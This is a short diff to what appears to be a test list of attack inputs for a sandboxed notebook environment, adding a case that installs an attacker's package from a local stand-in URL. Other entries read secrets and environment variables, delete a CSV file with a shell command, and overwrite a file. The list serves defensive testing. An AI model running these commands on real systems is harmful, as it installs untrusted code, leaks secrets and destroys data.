@@ -63,6 +63,7 @@ const ATTACKS: readonly (readonly [name: string, code: string])[] = [
   ["secrets", "from fiddle import secrets\nprint(secrets['KEY'])"],
   ["an environment", "import os\nprint(os.environ)"],
   ["a package of the attacker's", "%pip install http://127.0.0.1:9/evil.whl"],
+  ["a package of the attacker's without a sign", "pip install http://127.0.0.1:9/evil.whl"],
   ["a module out of the notebook's files", "import helper"],
   ["a shell", "!rm customers.csv"],
   ["a file of another cell's making", "%%writefile customers.csv\ngone"],
